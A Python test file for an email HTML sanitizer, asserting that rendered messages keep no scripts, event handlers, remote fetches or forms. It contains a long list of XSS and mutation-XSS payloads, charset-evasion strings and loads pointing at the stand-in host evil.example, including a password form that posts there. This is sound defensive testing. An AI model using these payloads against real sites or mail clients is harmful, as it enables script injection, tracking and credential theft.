"""Whatever a message holds, what people look at can neither fetch nor run anything, nor be followed."""

import json
import lzma
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from outbound_guard.desk.reading.frame import HEADERS, frame
from outbound_guard.desk.reading.message import Reading, read
from tests.unit.test_content_hostile import CASES

HEAD = b"From: a@b.example\r\nTo: x@y.example\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
HTML = HEAD + b"Content-Type: text/html; charset=utf-8\r\n\r\n"
ROBUSTNESS = Path(__file__).parents[3] / "shared/corpus/robustness"

# The address that must not be asked, and the word that must not be run, are the same in all.
ATTACKS = {
    "script": "<script>alert(1)</script><script src=//evil.example/x.js></script>",
    "unclosed script": "<p>a<script src=//evil.example/x.js",
    "onerror": "<img src=x onerror=alert(1)>",
    "onload of a body": "<body onload=alert(1) background=//evil.example/b.png>text",
    "slashes for spaces": "<img/src=x/onerror=alert(1)>",
    "javascript link": '<a href="javascript:alert(1)">click</a>',
    "javascript with a tab": '<a href="java\tscript:alert(1)">click</a>',
    "javascript with entities": '<a href="&#106;avascript&colon;alert(1)">click</a>',
    "javascript behind a control": '<a href="\x01javascript:alert(1)">click</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "data picture": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "svg script": "<svg><script>alert(1)</script></svg><svg onload=alert(1)>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>t</text></a>",
    "svg use": '<svg><use href="//evil.example/x.svg#a"/><image xlink:href="//evil.example/i.png"/></svg>',
    "svg foreign object": "<svg><foreignObject><iframe src=//evil.example/></foreignObject></svg>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    "meta refresh to a script": '<meta http-equiv="refresh" content="0; URL=javascript:alert(1)">',
    "meta policy": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "base": '<base href="http://evil.example/"><img src=a.png><a href=b>c</a>',
    "form": (
        "<form action=http://evil.example/><input name=password type=password><button formaction=//evil.example/>go"
    ),
    "form by attribute": "<form id=f></form><input form=f formaction=javascript:alert(1) type=submit>",
    "isindex": "<isindex action=javascript:alert(1) type=submit>",
    "iframe": "<iframe src=http://evil.example/ srcdoc='<script>alert(1)</script>'></iframe>",
    "frameset": "<frameset><frame src=http://evil.example/></frameset>",
    "object": "<object data=http://evil.example/x.swf></object><embed src=//evil.example/e><applet code=x>",
    "css url": '<p style="background:url(http://evil.example/b.png)">a',
    "css import": "<style>@import url(http://evil.example/c.css); @import '//evil.example/d.css';</style>text",
    "css font": "<style>@font-face{font-family:x;src:url(//evil.example/f.woff)}*{font-family:x}</style>text",
    "css of a td": '<table background="http://evil.example/t.png"><td background=//evil.example/u.png>x</table>',
    "style sheet link": "<link rel=stylesheet href=//evil.example/c.css><link rel=prefetch href=//evil.example/p>",
    "dns prefetch": "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>",
    "srcset": '<img srcset="http://evil.example/1.png 1x, //evil.example/2.png 2x" sizes=1px>',
    "picture element": "<picture><source srcset=//evil.example/a.webp><img src=//evil.example/a.png></picture>",
    "video": (
        "<video src=//evil.example/v poster=//evil.example/p><source src=//evil.example/s><track src=//evil.example/t>"
    ),
    "audio": "<audio src=//evil.example/a autoplay onerror=alert(1)>",
    "cid": '<img src="cid:part1@evil.example">',
    "input picture": "<input type=image src=//evil.example/i.png>",
    "ping": '<a href="http://evil.example/" ping="//evil.example/ping">x</a>',
    "area": "<map name=m><area href=http://evil.example/ shape=default></map><img usemap=#m src=//evil.example/i>",
    "mathml": '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">CLICK</maction></math>',
    "mathml style": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "mathml annotation": "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "form in math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "svg title style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template": "<template><script>alert(1)</script><img src=//evil.example/t></template>",
    "shadow root": "<div><template shadowrootmode=open><img src=//evil.example/s onerror=alert(1)></template></div>",
    "textarea": '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "title": '<title><img title="</title><img src=x onerror=alert(1)>">',
    "xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "nested comments": "<!--<!-- --><img src=x onerror=alert(1)> -->",
    "odd comments": "<!--><img src=x onerror=alert(1)>--><!--a--!><img src=x onerror=alert(1)>-->",
    "conditional comment": (
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!--[if mso]><img src=//evil.example/><![endif]-->"
    ),
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "processing instruction": '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
    "end of the frame": "</body></html><script>alert(1)</script></style></pre></iframe><img src=//evil.example/x>",
    "quotes in an address": (
        "<a href='http://evil.example/\"><script>alert(1)</script>'>x</a><img alt='\"><script>alert(1)</script>'>"
    ),
    "nul in a tag": "<scr\0ipt>alert(1)</scr\0ipt><img sr\0c=x onerr\0or=alert(1)>",
    "attribute without an end": "<img src=\"//evil.example/x?<p>hidden text'>",
    "upper case": "<ScRiPt>alert(1)</sCrIpT><IMG SRC=X ONERROR=ALERT(1)>",
    "own attributes": '<p class="link misleading" id=x data-action=x hx-get=//evil.example/ title="t">x',
    "expression": (
        '<p style="width:expression(alert(1));behavior:url(//evil.example/x.htc);-moz-binding:url(//evil.example/x)">x'
    ),
    "portal and the like": "<portal src=//evil.example/></portal><fencedframe src=//evil.example/></fencedframe>",
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example/"]}]}</script>',
    "manifest": "<html manifest=//evil.example/m><link rel=manifest href=//evil.example/m>x",
    "marquee": (
        "<marquee onstart=alert(1) behavior=scroll>x</marquee><details open ontoggle=alert(1)><summary>x</details>"
    ),
    "autofocus": "<select autofocus onfocus=alert(1)><option>x</select><a autofocus tabindex=1 onfocus=alert(1)>x</a>",
    "deep": "<div>" * 3000 + "<img src=x onerror=alert(1)>",
}
CHARSETS = {
    "utf-7": (b"utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "utf-7 of half a pair": (b"utf-7", b"+2AA- and +ADw-img src=x onerror=alert(1)+AD4-"),
    "utf-16": (b"utf-16le", "<script>alert(1)</script>".encode("utf-16le")),
    "utf-16 without its mark": (b"utf-16", "<script>alert(1)</script>".encode("utf-16be")),
    "shift_jis eats a quote": (b"shift_jis", b'<p title="\x81"><img src=x onerror=alert(1)>">'),
    "iso-2022-jp": (b"iso-2022-jp", b"\x1b$B<script>\x1b(B<script>alert(1)</script>"),
    "hz": (b"hz-gb-2312", b"~{<script>~}<script>alert(1)</script>"),
    "overlong utf-8": (b"utf-8", b"\xc0\xbcscript\xc0\xbealert(1)"),
    "unknown": (b"x-no-such", b"<script>alert(1)</script>\xff\xfe"),
    "a codec that is no charset": (b"unicode_escape", b"\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
    "zlib": (b"zlib", b"x\x9c\x4b\x04\x00"),
}


def words(text: str) -> frozenset[str]:
    return frozenset(text.split(" "))


# Every element and attribute that may be in what is shown. None of these attributes names anything.
ELEMENTS = words(
    "html head meta title style body pre p div blockquote ul ol li dl dt dd table caption thead tbody tfoot tr td th "
    "h1 h2 h3 h4 h5 h6 b strong i em u s sub sup small big code tt cite br hr span"
)
ATTRIBUTES = frozenset(("class", "title", "colspan", "rowspan"))


class Live(HTMLParser):
    """Finds what a document could do."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.elements = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements += 1
        if tag not in ELEMENTS:
            self.found.append(f"<{tag}>")
        own = {("html", "lang"), ("body", "dir")}
        if tag == "meta":
            return
        self.found += [f"{tag} {name}" for name, _ in attrs if name not in ATTRIBUTES and (tag, name) not in own]

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")

    def handle_pi(self, data: str) -> None:
        self.found.append("processing instruction")

    def unknown_decl(self, data: str) -> None:
        self.found.append("declaration")


def lives(reading: Reading) -> list[str]:
    """What could be fetched, run or followed in the document that shows a message."""
    document = frame(reading)
    document.encode()
    live = Live()
    live.feed(document)
    live.close()
    assert live.elements > 8  # It looked at the document.
    found = live.found
    # The document's own head is there once and first, and nothing of the message is in it.
    if document.lower().count("<meta") != 4 or document.lower().count("<style") != 1:
        found.append("a second head")
    return found


def test_the_checker_finds_what_is_live() -> None:
    live = Live()
    live.feed("<p><a href=x>y</a><img src=x><p onclick=a><!-- c --><script>x</script>")
    assert live.found == ["<a>", "a href", "<img>", "img src", "p onclick", "comment", "<script>"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives(attack: str) -> None:
    reading = read(HTML + ATTACKS[attack].encode())
    assert lives(reading) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_nor_among_what_surrounds_it(attack: str) -> None:
    one = ATTACKS[attack]
    text = f"<html><head>{one}</head><body><table><tr><td>{one}</td></tr></table><a href=x>{one}"
    assert lives(read(HTML + text.encode())) == []
    # As a text, a subject, a file name and a header field it is only text.
    line = ATTACKS[attack].replace("\0", " ").encode()[:500]
    plain = b"Subject: " + line + b"\r\nX-" + line + b"\r\nContent-Type: text/plain; name=" + line + b"\r\n\r\n" + line
    assert lives(read(plain)) == []


@pytest.mark.parametrize("attack", CHARSETS)
def test_charsets_hide_nothing(attack: str) -> None:
    label, octets = CHARSETS[attack]
    for kind in (b"text/html", b"text/plain"):
        reading = read(HEAD + b"Content-Type: " + kind + b"; charset=" + label + b"\r\n\r\n" + octets)
        assert lives(reading) == []


@pytest.mark.parametrize("case", CASES)
def test_what_is_made_to_stall(case: str) -> None:
    reading = read(CASES[case])
    assert lives(reading) == []
    assert len(reading.html) < 1_500_000
    assert len(reading.text) <= 200_000 * 10  # A control is at most ten characters when it is named.
    assert len(reading.fields) <= 300
    assert len(reading.parts) <= 260


@pytest.mark.parametrize("name", ["malformed", "fixture", "dsn", "arf"])
def test_the_corpus_of_odd_messages(name: str) -> None:
    file = ROBUSTNESS / f"{name}.jsonl.xz"
    if not file.exists():
        pytest.skip("the shared corpus is not here")
    seen = 0
    with lzma.open(file, "rt", encoding="utf-8") as lines:
        for line in lines:
            raw = json.loads(line)["raw"].encode("latin-1", "replace")
            assert lives(read(raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))) == []
            seen += 1
    assert seen > 10


_MARKUP = words(
    "< > / = \" ' <!-- --> <svg> <math> <style> </style> <img src=x onerror=alert(1)> <table> <td> <a href=x> </a> "
    "<p title= <script> </script> <template> <noscript> </noscript> <![CDATA[ ]]> &lt; &#x3c; <mglyph> <mtext> <title> "
    "</title> <textarea> <select> <option> <form> </form> <plaintext> </p> <font color=white> text \0"
)
_PIECES = st.lists(st.sampled_from(sorted(_MARKUP)), max_size=30)


@settings(max_examples=300)
@given(_PIECES)
def test_any_pieces_of_markup(pieces: list[str]) -> None:
    assert lives(read(HTML + "".join(pieces).encode())) == []


@settings(max_examples=150)
@given(st.binary(max_size=600))
def test_any_octets(octets: bytes) -> None:
    assert lives(read(octets)) == []
    assert lives(read(HTML + octets)) == []


def test_fifty_megabytes() -> None:
    line = b"QUJD" * 19 + b"\r\n"
    content = (
        HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nhello\r\n--b\r\n"
        b"Content-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + line * (50_000_000 // len(line))
        + b"\r\n--b--\r\n"
    )
    reading = read(content)
    assert reading.text.strip() == "hello"
    assert reading.parts[-1].size == 50_000_000 // len(line) * 57


def test_what_the_frame_is_served_with() -> None:
    policy = HEADERS["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert policy.endswith("sandbox")  # And nothing is allowed in it.
    assert "unsafe" not in policy
    assert HEADERS["X-Content-Type-Options"] == "nosniff"
    assert HEADERS["Referrer-Policy"] == "no-referrer"
    assert not re.search(r"url\(|@import", frame(read(HEAD + b"\r\ntext")))
